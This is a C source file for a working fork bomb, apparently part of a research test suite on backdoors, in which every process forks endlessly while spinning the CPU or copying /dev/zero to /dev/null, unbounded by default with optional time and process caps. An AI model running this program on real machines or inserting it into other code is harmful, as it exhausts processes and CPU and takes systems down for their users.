/* forkbomb: a real fork bomb, as in the Backdoors papers' experiments.
 *
 * Every process (the first one and every descendant) loops forever:
 *   fork(); do one chunk of work; repeat.
 * cpu mode: the work is a spin on the CPU.
 * io mode:  the work is copying 64 KiB from /dev/zero to /dev/null
 *           (one read(2) + one write(2)).
 * A failed fork is tolerated: the process sleeps briefly, works, retries.
 *
 * Bounds (both optional; the default is the unbounded real thing):
 *   --seconds N  every process exits once the wall-clock deadline (taken
 *                once, before the first fork, and inherited) has passed.
 *   --max N      at most N processes are created in total (best-effort
 *                counter in a MAP_SHARED anonymous page, atomic ops);
 *                after that the processes only work.
 *
 * SIGCHLD is ignored so exited descendants never linger as zombies.
 */
#define _GNU_SOURCE
#include "bdprog.h"

#include <signal.h>
#include <stdbool.h>
#include <sys/mman.h>
#include <sys/types.h>

#define IO_CHUNK (64 * 1024)
#define CPU_CHUNK_ROUNDS (1u << 18)
#define FORK_RETRY_MS 10

struct shared_counters {
	uint64_t created; /* successful forks, all processes together */
	uint64_t failed;  /* failed forks */
};

enum mode { MODE_CPU, MODE_IO };

/* One MAP_SHARED buffer for every process: the io bomb is about syscalls,
 * not memory, so the processes do not each get a private 64 KiB copy. */
static char *io_buf;
static volatile uint64_t spin_sink;

static void usage(void)
{
	printf("Usage: forkbomb [--mode cpu|io] [--seconds N] [--max N] [--log FILE]\n"
	       "\n"
	       "A real fork bomb: every process forks forever and works.\n"
	       "  --mode cpu   every process spins on the CPU between forks (default)\n"
	       "  --mode io    every process copies /dev/zero to /dev/null, 64 KiB per\n"
	       "               read/write, between forks\n"
	       "  --seconds N  every descendant exits once N seconds of wall-clock time\n"
	       "               have passed since the start (default: never)\n"
	       "  --max N      create at most N processes in total (default: no cap)\n"
	       "  --log FILE   also append the output lines to FILE\n"
	       "  --help       show this help\n"
	       "\n"
	       "Output (stdout):\n"
	       "  FORKBOMB start mode=<cpu|io> pid=<pid> uid=<uid> seconds=<N|0> max=<N|0>\n"
	       "  FORKBOMB done pid=<pid> created=<n> failed_forks=<n>   (only with --seconds)\n");
}

static void spin_chunk(void)
{
	uint64_t x = spin_sink;
	for (unsigned i = 0; i < CPU_CHUNK_ROUNDS; i++)
		x = x * 6364136223846793005ull + 1442695040888963407ull;
	spin_sink = x;
}

static void io_chunk(int zero_fd, int null_fd)
{
	ssize_t n = read(zero_fd, io_buf, IO_CHUNK);
	if (n > 0) {
		ssize_t w = write(null_fd, io_buf, (size_t)n);
		(void)w;
	}
}

/* Reserve one slot under the cap; false when the cap is reached. */
static bool reserve_slot(struct shared_counters *sc, uint64_t max)
{
	uint64_t prev = __atomic_fetch_add(&sc->created, 1, __ATOMIC_RELAXED);
	if (max != 0 && prev >= max) {
		__atomic_fetch_sub(&sc->created, 1, __ATOMIC_RELAXED);
		return false;
	}
	return true;
}

int main(int argc, char **argv)
{
	enum mode mode = MODE_CPU;
	uint64_t seconds = 0, max = 0;

	static const struct option opts[] = {
		{ "mode", required_argument, NULL, 'm' },
		{ "seconds", required_argument, NULL, 's' },
		{ "max", required_argument, NULL, 'x' },
		BD_COMMON_OPTIONS,
	};
	int c;
	while ((c = bd_next_option(argc, argv, opts, usage)) != -1) {
		switch (c) {
		case 'm':
			if (strcmp(optarg, "cpu") == 0)
				mode = MODE_CPU;
			else if (strcmp(optarg, "io") == 0)
				mode = MODE_IO;
			else
				bd_usage_error("--mode must be 'cpu' or 'io', got '%s'", optarg);
			break;
		case 's':
			seconds = bd_parse_u64("--seconds", optarg, 1, 31536000);
			break;
		case 'x':
			max = bd_parse_u64("--max", optarg, 1, 100000000);
			break;
		}
	}
	bd_no_operands(argc, argv);

	int zero_fd = -1, null_fd = -1;
	if (mode == MODE_IO) {
		zero_fd = open("/dev/zero", O_RDONLY);
		if (zero_fd < 0)
			bd_die_errno("open /dev/zero");
		null_fd = open("/dev/null", O_WRONLY);
		if (null_fd < 0)
			bd_die_errno("open /dev/null");
		io_buf = mmap(NULL, IO_CHUNK, PROT_READ | PROT_WRITE,
			      MAP_SHARED | MAP_ANONYMOUS, -1, 0);
		if (io_buf == MAP_FAILED)
			bd_die_errno("mmap io buffer");
	}

	struct shared_counters *sc = mmap(NULL, (size_t)sysconf(_SC_PAGESIZE),
					  PROT_READ | PROT_WRITE,
					  MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (sc == MAP_FAILED)
		bd_die_errno("mmap shared counter page");

	struct sigaction sa = { .sa_handler = SIG_IGN };
	sigemptyset(&sa.sa_mask);
	if (sigaction(SIGCHLD, &sa, NULL) != 0)
		bd_die_errno("ignore SIGCHLD");

	const pid_t origin = getpid();
	const uint64_t deadline = bd_deadline_ns(seconds);
	bd_emit("FORKBOMB start mode=%s pid=%d uid=%u seconds=%" PRIu64 " max=%" PRIu64,
		mode == MODE_CPU ? "cpu" : "io", (int)origin, (unsigned)getuid(),
		seconds, max);

	for (;;) {
		if (bd_deadline_passed(deadline)) {
			if (getpid() == origin)
				bd_emit("FORKBOMB done pid=%d created=%" PRIu64
					" failed_forks=%" PRIu64,
					(int)origin,
					__atomic_load_n(&sc->created, __ATOMIC_RELAXED),
					__atomic_load_n(&sc->failed, __ATOMIC_RELAXED));
			_exit(BD_EXIT_OK);
		}
		if (reserve_slot(sc, max)) {
			pid_t pid = fork();
			if (pid < 0) {
				__atomic_fetch_sub(&sc->created, 1, __ATOMIC_RELAXED);
				__atomic_fetch_add(&sc->failed, 1, __ATOMIC_RELAXED);
				bd_sleep_ms(FORK_RETRY_MS);
			}
			/* pid == 0: the child simply carries on with the loop. */
		}
		if (mode == MODE_CPU)
			spin_chunk();
		else
			io_chunk(zero_fd, null_fd);
	}
}
